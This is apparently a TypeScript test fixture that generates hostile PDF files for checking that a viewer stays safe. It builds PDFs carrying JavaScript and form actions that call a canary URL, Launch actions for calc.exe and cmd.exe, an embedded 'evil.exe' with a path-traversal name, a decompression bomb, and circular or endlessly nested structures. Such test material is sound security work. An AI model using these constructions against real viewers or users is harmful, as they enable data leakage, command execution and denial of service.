import { deflateSync } from 'node:zlib';
import PDFDocument from 'pdfkit';
import { FONT, onePage, pdfOf, stream, textContent } from './write.ts';

/**
 * Expected behavior of a viewer: shows this text, shows a page, asks for a password, or reports that the file cannot be
 * shown.
 */
export type Expected = { readonly text: string } | 'protected' | 'unreadable' | 'shown' | 'either';

export interface Hostile {
  readonly name: string;
  readonly bytes: Uint8Array<ArrayBuffer>;
  readonly expected: Expected;
}

export const PASSWORD = 'open sesame';

/** Malicious files. `canary` is a URL that must never be requested. */
export async function hostilePdfs(canary: string): Promise<Hostile[]> {
  const shows = (name: string, more: Parameters<typeof onePage>[1]): Hostile => {
    const text = `Harmless ${name}`;
    return { name, bytes: onePage(text, more), expected: { text } };
  };
  const whole = onePage('Harmless whole');
  const script = `app.launchURL("${canary}/script", true); this.submitForm("${canary}/submit"); while (true) {}`;
  const link = (rectangle: string, action: string) =>
    `<< /Type /Annot /Subtype /Link /Rect [${rectangle}] /Border [0 0 2] /A ${action} >>`;
  return [
    shows('javascript', {
      catalog: `/OpenAction << /S /JavaScript /JS (${script.replace(/[()\\]/g, '\\$&')}) >> /Names << /JavaScript << /Names [(a) 6 0 R] >> >> /AA << /WC 6 0 R >>`,
      page: '/AA << /O 6 0 R >>',
      more: [`<< /S /JavaScript /JS (${script.replace(/[()\\]/g, '\\$&')}) >>`],
    }),
    shows('actions', {
      catalog: `/OpenAction << /S /URI /URI (${canary}/open) >>`,
      page: '/Annots [6 0 R 7 0 R 8 0 R 9 0 R]',
      more: [
        link('0 600 612 792', `<< /S /URI /URI (${canary}/uri) >>`),
        link('0 400 612 600', '<< /S /Launch /F (calc.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>'),
        link('0 200 612 400', `<< /S /GoToR /F << /FS /URL /F (${canary}/other.pdf) >> /D [0 /Fit] >>`),
        link('0 0 612 200', `<< /S /SubmitForm /F << /FS /URL /F (${canary}/form) >> >>`),
      ],
    }),
    shows('embedded', {
      catalog: '/Names << /EmbeddedFiles << /Names [(evil.exe) 6 0 R] >> >>',
      page: '/Annots [8 0 R]',
      more: [
        '<< /Type /Filespec /F (evil.exe) /UF (..\\\\..\\\\evil.exe) /EF << /F 7 0 R >> >>',
        stream('/Type /EmbeddedFile', 'MZ'),
        '<< /Type /Annot /Subtype /FileAttachment /Rect [50 50 90 90] /FS 6 0 R /Contents (open me) >>',
      ],
    }),
    shows('forms', {
      catalog: '/AcroForm << /Fields [6 0 R] /NeedAppearances true /XFA 7 0 R >>',
      page: '/Annots [6 0 R]',
      more: [
        `<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [60 600 300 630] /V (typed) /AA << /K << /S /JavaScript /JS (app.alert(1)) >> >> >>`,
        stream(
          '',
          `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform><event activity="initialize"><submit target="${canary}/xfa"/></event></subform></template></xdp:xdp>`,
        ),
      ],
    }),
    shows('outside', {
      page: '/AF [7 0 R]',
      more: [
        `<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray /F << /FS /URL /F (${canary}/image) >> /Length 0 >>`,
        `<< /Type /Filespec /FS /URL /F (${canary}/file) >>`,
      ],
    }),
    shows('outline in a circle', {
      catalog: '/Outlines 6 0 R',
      more: [
        '<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>',
        `<< /Title (Round) /Parent 6 0 R /First 7 0 R /Next 7 0 R /A << /S /URI /URI (${canary}/outline) >> >>`,
      ],
    }),
    shows('drawing itself', {
      page: '/Resources << /Font << /F1 5 0 R >> /XObject << /X 6 0 R >> >>',
      content: stream('', 'BT /F1 24 Tf 60 700 Td (Harmless drawing itself) Tj ET /X Do'),
      more: [
        stream(
          '/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /XObject << /X 6 0 R >> >>',
          '/X Do /X Do',
        ),
      ],
    }),
    shows('blown up', {
      page: '/Resources << /Font << /F1 5 0 R >> /XObject << /X 6 0 R >> >>',
      content: stream('', 'BT /F1 24 Tf 60 700 Td (Harmless blown up) Tj ET /X Do'),
      more: [
        stream(
          '/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /FlateDecode',
          deflateSync(Buffer.alloc(10_000_000)),
        ),
      ],
    }),
    {
      name: 'a page as large as a town',
      bytes: onePage('Large', { page: '/MediaBox [0 0 14400000 14400000] /UserUnit 1000' }),
      expected: 'shown',
    },
    {
      name: 'pages in a circle',
      bytes: pdfOf({
        objects: [
          '<< /Type /Catalog /Pages 2 0 R >>',
          '<< /Type /Pages /Kids [3 0 R] /Count 9 /Parent 3 0 R >>',
          '<< /Type /Pages /Kids [2 0 R] /Count 9 /Parent 2 0 R >>',
        ],
      }),
      expected: 'unreadable',
    },
    {
      name: 'a table that refers to itself',
      bytes: pdfOf({
        objects: [
          '<< /Type /Catalog /Pages 2 0 R >>',
          '<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>',
          '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>',
          textContent('Harmless table'),
          FONT,
        ],
        trailer: '/Prev 9',
      }),
      expected: { text: 'Harmless table' },
    },
    {
      name: 'nested without end',
      bytes: onePage('Deep', { page: `/Deep ${'['.repeat(60_000)}${']'.repeat(60_000)}` }),
      expected: 'either',
    },
    { name: 'cut off', bytes: whole.slice(0, 200), expected: 'unreadable' },
    { name: 'no PDF', bytes: bytesOf('<!doctype html><script>alert(1)</script>'), expected: 'unreadable' },
    { name: 'empty', bytes: new Uint8Array(0), expected: 'unreadable' },
    { name: 'only its head', bytes: bytesOf('%PDF-1.7\n%%EOF'), expected: 'unreadable' },
    { name: 'protected', bytes: await protectedPdf(), expected: 'protected' },
  ];
}

function bytesOf(text: string): Uint8Array<ArrayBuffer> {
  return new Uint8Array(Buffer.from(text));
}

/** A PDF encrypted with a password by a library. */
async function protectedPdf(): Promise<Uint8Array<ArrayBuffer>> {
  const document = new PDFDocument({ userPassword: PASSWORD, pdfVersion: '1.7' });
  const parts: Uint8Array[] = [];
  document.on('data', (part: Uint8Array) => parts.push(part));
  const done = new Promise<void>((resolve) => document.on('end', () => resolve()));
  document.fontSize(24).text('Harmless protected');
  document.end();
  await done;
  return new Uint8Array(Buffer.concat(parts));
}
